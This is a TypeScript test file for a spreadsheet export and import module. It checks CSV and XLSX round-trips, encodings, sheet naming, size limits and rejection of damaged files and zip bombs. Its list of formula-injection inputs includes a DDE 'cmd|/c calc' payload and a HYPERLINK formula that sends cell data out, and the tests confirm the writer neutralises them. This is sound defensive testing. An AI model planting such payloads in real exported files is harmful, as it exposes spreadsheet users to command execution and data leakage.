import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import readWorkbook from 'read-excel-file/universal';
import { createElement } from 'react';
import { describe, expect, test } from 'vitest';
import type { CellValue, Column } from '../data-table/column.ts';
import { parseSheet } from './parse-sheet.ts';
import { readSheet } from './read-sheet.ts';
import type { SheetReadErrorCode } from './sheet-read-error.ts';
import { writeSheet } from './write-sheet.ts';
import { createXlsxWriter } from './write-xlsx.ts';

const limits = { maxRows: 1000 };

/** Texts that a spreadsheet would take for formulas. */
const formulas = [
  '=1+1',
  '+1',
  '-1+cmd|’/c calc’!A0',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '  =1',
  '　＝1＋1',
  '＋1',
  '－1',
  '＠A1',
  '=HYPERLINK("http://x?"&A1,"看")',
  '\n-1',
];
/** Texts that hurt a writer or a reader in other ways. */
const nasty = [
  '<b>&"\'</b>',
  'a,b;c\td',
  '"quoted"',
  '两行\n第二行',
  '𠮷 😀 é',
  '_x0041_',
  '_x0041_x0042_',
  '_x005F_',
  ']]>',
  '1e5',
  '00123',
  '=',
  '-',
  'TRUE',
  '2026-11-21',
  '’=1',
  "'=1",
  "''=1",
  "'text",
  '"',
  '中文，标点',
];

describe.each(['csv', 'xlsx'] as const)('%s: what is written is read back', (format) => {
  test.each([...formulas, ...nasty])('%j', async (text) => {
    const { file } = await writeSheet({ columns: oneColumn, rows: [text, 'after'], format });
    const { heads, rows } = await readSheet(file);
    expect(heads).toEqual(['文字']);
    expect(rows).toEqual([[text.replaceAll('\r', '\n').trim()], ['after']]);
  });

  test('values of every kind', async () => {
    const rows: CellValue[] = [
      1.5,
      -7,
      0,
      1e21,
      true,
      false,
      new Date(2026, 10, 21, 16, 5),
      null,
      undefined,
      '',
      Number.NaN,
      new Date(Number.NaN),
      'end',
    ];
    const { file } = await writeSheet({ columns: [{ key: 'value', title: '值', value: (row: CellValue) => row }], rows, format });
    const sheet = await readSheet(file);
    expect(sheet.rows.flat()).toEqual(['1.5', '-7', '0', '1e+21', 'TRUE', 'FALSE', '2026-11-21 16:05', '', '', '', '', '', 'end']);
  });

  test('heads alone, in Chinese, harmless too', async () => {
    const { file, rows } = await writeSheet({ columns: [{ key: 'a', title: '=姓名' }], rows: [], format, sheetName: '项目' });
    expect(rows).toBe(0);
    expect(await readSheet(file)).toMatchObject({ heads: ['=姓名'], rows: [] });
  });

  test('pages of a server, with progress', async () => {
    const heard: number[] = [];
    const { file, rows } = await writeSheet({
      columns: oneColumn,
      rows: pages(3, 7),
      format,
      onProgress: (written) => heard.push(written),
    });
    expect(rows).toBe(21);
    expect(heard).toEqual([7, 14, 21]);
    expect((await readSheet(file)).rows[20]).toEqual(['2-6']);
  });
});

describe('CSV', () => {
  test.each(formulas)('%j is harmless', async (text) => {
    const { file } = await writeSheet({ columns: oneColumn, rows: [text], format: 'csv' });
    const [, line = ''] = (await file.text()).split('文字\r\n');
    expect(line.replace(/^"/, '').startsWith(`'${text.slice(0, 1)}`)).toBe(true);
  });

  test('is UTF-8 with its mark, numbers plain', async () => {
    const { file } = await writeSheet({ columns: [{ key: 'n', title: '分', value: (row: number) => row }], rows: [-1.5], format: 'csv' });
    expect(new Uint8Array(await file.arrayBuffer()).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(await file.text()).toBe('分\r\n-1.5\r\n');
  });

  test.each<[string, string, string[][]]>([
    ['semicolons', 'a;b\n1,5;2', [['1,5', '2']]],
    ['tabs', 'a\tb\n1,5\t2', [['1,5', '2']]],
    ['bars', 'a|b\n1|2', [['1', '2']]],
    ['the line of Excel', 'sep=;\r\na;b\r\n1;2', [['1', '2']]],
    [
      'old Macintosh lines',
      'a,b\r1,2\r3,4',
      [
        ['1', '2'],
        ['3', '4'],
      ],
    ],
    ['line breaks in cells', 'a,b\r\n"x\r\ny",2\r\n', [['x\r\ny', '2']]],
    ['quotes in cells', 'a,b\n"say ""hi""",5" pipe', [['say "hi"', '5" pipe']]],
    ['an empty cell at the end', 'a,b\n1,', [['1', '']]],
    [
      'rows of other lengths',
      'a,b\n1\n1,2,3,,\n,,',
      [
        ['1', '', ''],
        ['1', '2', '3'],
      ],
    ],
    ['an empty row between', 'a\n1\n\n3\n\n', [['1'], [''], ['3']]],
    ['one column', '姓名\n张三\n', [['张三']]],
  ])('%s', async (_, text, rows) => {
    expect((await parseSheet(strToU8(text), limits)).rows).toEqual(rows);
  });

  test.each<[string, Uint8Array]>([
    ['UTF-8', strToU8('姓名\n张三')],
    ['UTF-8 with its mark', strToU8('\ufeff姓名\n张三')],
    ['GB18030', new Uint8Array([0xd0, 0xd5, 0xc3, 0xfb, 0x0a, 0xd5, 0xc5, 0xc8, 0xfd])],
    ['UTF-16', new Uint8Array([0xff, 0xfe, 0xd3, 0x59, 0x0d, 0x54, 0x0a, 0x00, 0x20, 0x5f, 0x09, 0x4e])],
  ])('in %s', async (_, content) => {
    expect(await parseSheet(content, limits)).toMatchObject({ heads: ['姓名'], rows: [['张三']] });
  });

  test('heads need not stand in the first row', async () => {
    expect(await parseSheet(strToU8(',\n,\na,b\n1,2'), limits)).toMatchObject({ heads: ['a', 'b'], rows: [['1', '2']], headRow: 3 });
  });
});

describe('a workbook', () => {
  test('has numbers, dates and text as such, a bold head and a frozen row', async () => {
    const parts = await partsOf([3, new Date(2026, 0, 2, 3, 4, 5), '=1', 'x', true]);
    const sheet = parts['xl/worksheets/sheet1.xml'] ?? '';
    expect(sheet).toContain('<c r="A2"><v>3</v></c>');
    expect(sheet).toMatch(/<c r="A3" s="2"><v>46024\.1278\d*<\/v><\/c>/);
    expect(sheet).toContain('<c r="A4" s="4" t="inlineStr"><is><t>=1</t></is></c>');
    expect(sheet).toContain('<c r="A5" t="inlineStr">');
    expect(sheet).toContain('<c r="A6" t="b"><v>1</v></c>');
    expect(sheet).toContain('<c r="A1" s="1" t="inlineStr">');
    expect(sheet).toContain('state="frozen"');
    expect(sheet).not.toContain('<f');
    expect(parts['xl/styles.xml']).toMatch(/quotePrefix="1"/);
  });

  test('drops what XML cannot hold', async () => {
    const { file } = await writeSheet({ columns: oneColumn, rows: ['a\u0000b\u0008\u001f\uffff\ud800c'], format: 'xlsx' });
    expect((await readSheet(file)).rows).toEqual([['ab\ufffdc']]);
  });

  test('cuts text that no cell can hold, and says so', async () => {
    const long = `${'长'.repeat(32_766)}😀`;
    const { file, cutCells, firstCut } = await writeSheet({ columns: oneColumn, rows: ['a', long, long], format: 'xlsx' });
    expect({ cutCells, firstCut }).toEqual({ cutCells: 2, firstCut: 'A3' });
    expect((await readSheet(file)).rows[1]).toEqual(['长'.repeat(32_766)]);
  });

  test('goes on in a second sheet when one is full', async () => {
    const writer = createXlsxWriter({ format: 'xlsx', sheetName: '项目', columns: [{ title: '号' }] }, 4);
    writer.add([[1], [2]]);
    writer.add([[3], [4], [5], [6]]);
    const { file, sheets } = writer.finish();
    expect(sheets).toBe(2);
    expect(await readWorkbook(file)).toEqual([
      { sheet: '项目', data: [['号'], [1], [2], [3]] },
      { sheet: '项目 (2)', data: [['号'], [4], [5], [6]] },
    ]);
    expect(await readSheet(file, { sheetName: '项目 (2)' })).toMatchObject({
      rows: [['4'], ['5'], ['6']],
      sheetNames: ['项目', '项目 (2)'],
    });
  });

  test.each([
    ["a/b:'c'?", "a b 'c"],
    ['[]*\\', 'Sheet1'],
    ['History', 'Sheet1'],
    ['R&D <1>', 'R&D <1>'],
    ['年'.repeat(40), '年'.repeat(31)],
    [`${'a'.repeat(30)}😀`, 'a'.repeat(30)],
  ])('its sheet may be called %s', async (sheetName, expected) => {
    const { file } = await writeSheet({ columns: oneColumn, rows: [], format: 'xlsx', sheetName });
    expect((await readSheet(file)).sheetNames).toEqual([expected]);
  });

  test('gives days as days and moments with their minutes', async () => {
    const days = [new Date(2026, 8, 1), new Date(2026, 8, 1, 8, 30), new Date(1900, 2, 1), new Date(1800, 0, 1, 1, 1)];
    const { file } = await writeSheet({ columns: [{ key: 'd', title: '日', value: (row: Date) => row }], rows: days, format: 'xlsx' });
    expect((await readSheet(file)).rows.flat()).toEqual(['2026-09-01', '2026-09-01 08:30', '1900-03-01', '1800-01-01 01:01']);
  });

  test('of a formula the result is read', async () => {
    const file = workbookOf('<row r="1"><c r="A1" t="str"><v>和</v></c></row><row r="2"><c r="A2"><f>1+2</f><v>3</v></c></row>');
    expect(await parseSheet(file, limits)).toMatchObject({ heads: ['和'], rows: [['3']] });
  });
});

describe('what a column exports', () => {
  const columns: Column<{ isDone: boolean }>[] = [
    { key: 'yes', title: '是否', value: (row) => row.isDone, cell: (row) => (row.isDone ? '是' : '否') },
    { key: 'mark', title: '标记', value: (row) => row.isDone },
    {
      key: 'node',
      title: '节点',
      cell: () => createElement('b', null, '共 ', 3, [' ', createElement('i', { key: 'i' }, '项')], null, false),
    },
    { key: 'number', title: '数', cell: () => 4 },
    { key: 'none', title: '无' },
  ];
  test('its value, or the text that is seen', async () => {
    const { file } = await writeSheet({ columns, rows: [{ isDone: true }], format: 'csv' });
    expect(await file.text()).toBe('\ufeff是否,标记,节点,数,无\r\n是,TRUE,共 3 项,4,\r\n'.slice(1));
  });
});

describe('what is no clean sheet is refused', () => {
  const cases: [string, SheetReadErrorCode, () => Uint8Array | Promise<Uint8Array>][] = [
    ['nothing', 'empty', () => new Uint8Array()],
    ['blank lines', 'empty', () => strToU8(' \n,,\n')],
    ['a page', 'notASheet', () => strToU8('<!DOCTYPE html><table><tr><td>1</td></tr></table>')],
    ['a picture', 'notASheet', () => new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13])],
    ['an older workbook', 'notASheet', () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, ...new Uint8Array(100)])],
    ['a zip of something else', 'notASheet', () => zipSync({ 'word/document.xml': strToU8('<a/>') })],
    ['quotes that never close', 'damaged', () => strToU8('a,b\n"1,2\n3,4')],
    ['a zip cut short', 'damaged', async () => (await clean()).slice(0, -30)],
    ['a zip with something behind it', 'damaged', async () => new Uint8Array([...(await clean()), 1, 2, 3])],
    ['an encrypted part', 'damaged', async () => patched(await clean(), 8, 1)],
    [
      'no worksheet',
      'damaged',
      () => zipSync({ 'xl/workbook.xml': strToU8('<workbook/>'), 'xl/_rels/workbook.xml.rels': strToU8('<a/>') }),
    ],
    ['broken XML', 'damaged', () => workbookOf('<row r="1"><c r="A1"><v>1</row>')],
    ['a row beyond the last', 'damaged', () => workbookOf('<row r="99999999999"></row>')],
    ['a zip bomb', 'tooLarge', () => workbookOf(' '.repeat(20_000_000))],
    ['a part larger than it says', 'tooLarge', () => patched(workbookOf(' '.repeat(500_000)), 24, 20, 'xl/worksheets/sheet1.xml')],
    ['too many columns', 'tooLarge', () => workbookOf('<row r="1"><c r="XFD1"><v>1</v></c></row>')],
    ['a far cell', 'tooManyRows', () => workbookOf('<row r="1000000"><c r="A1000000"><v>1</v></c></row>')],
    ['too many rows', 'tooManyRows', () => strToU8('a\n'.repeat(1002))],
  ];

  test.each(cases)('%s: %s', async (_, code, make) => {
    await expect(parseSheet(await make(), limits)).rejects.toMatchObject({ name: 'SheetReadError', code });
  });

  test('as many rows as are taken', async () => {
    expect((await parseSheet(strToU8('a\n'.repeat(1001)), limits)).rows).toHaveLength(1000);
  });

  test('a file over the limit is not even opened', async () => {
    await expect(readSheet(new Blob(['a,b']), { maxSize: 2 })).rejects.toMatchObject({ code: 'tooLarge' });
  });
});

describe('stopping', () => {
  test('before it begins, and while a page is on its way', async () => {
    const reason = new Error('stop');
    await expect(writeSheet({ columns: oneColumn, rows: ['a'], format: 'csv', signal: AbortSignal.abort(reason) })).rejects.toBe(reason);
    const controller = new AbortController();
    const write = writeSheet({
      columns: oneColumn,
      rows: endless(() => controller.abort(reason)),
      format: 'csv',
      signal: controller.signal,
    });
    await expect(write).rejects.toBe(reason);
  });

  test('what a page fails with is passed on', async () => {
    const reason = new Error('offline');
    await expect(writeSheet({ columns: oneColumn, rows: failing(reason), format: 'xlsx' })).rejects.toBe(reason);
  });
});

const oneColumn: Column<string>[] = [{ key: 'text', title: '文字', value: (row) => row }];

async function* pages(count: number, size: number) {
  for (let page = 0; page < count; page++) yield Promise.resolve(Array.from({ length: size }, (_, index) => `${page}-${index}`));
}

/** One page, then nothing for ever. */
async function* endless(onWait: () => void) {
  yield ['a'];
  await new Promise(() => setTimeout(onWait));
}

async function* failing(reason: Error) {
  yield ['a'];
  await Promise.reject(reason);
}

async function clean(): Promise<Uint8Array> {
  const { file } = await writeSheet({ columns: oneColumn, rows: ['a'], format: 'xlsx' });
  return new Uint8Array(await file.arrayBuffer());
}

async function partsOf(values: CellValue[]): Promise<Record<string, string | undefined>> {
  const { file } = await writeSheet({ columns: [{ key: 'v', title: '值', value: (row: CellValue) => row }], rows: values, format: 'xlsx' });
  const parts = unzipSync(new Uint8Array(await file.arrayBuffer()));
  return Object.fromEntries(Object.entries(parts).map(([name, part]) => [name, strFromU8(part)]));
}

function workbookOf(rows: string): Uint8Array {
  const parts = {
    '[Content_Types].xml': '<Types/>',
    'xl/workbook.xml':
      '<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
    'xl/_rels/workbook.xml.rels':
      '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${rows}</sheetData></worksheet>`,
  };
  return zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])));
}

/** The file with one field of a directory record changed: of the first record, or of the one with this name. */
function patched(file: Uint8Array, offset: number, value: number, name?: string): Uint8Array {
  const copy = file.slice();
  const view = new DataView(copy.buffer);
  for (let at = 0; at + 46 < copy.length; at++) {
    if (view.getUint32(at, true) !== 0x02014b50) continue;
    const found = strFromU8(copy.subarray(at + 46, at + 46 + view.getUint16(at + 28, true)));
    if (name !== undefined && found !== name) continue;
    view.setUint32(at + offset, offset === 24 ? value : view.getUint32(at + offset, true) | value, true);
    return copy;
  }
  throw new Error('no such record');
}
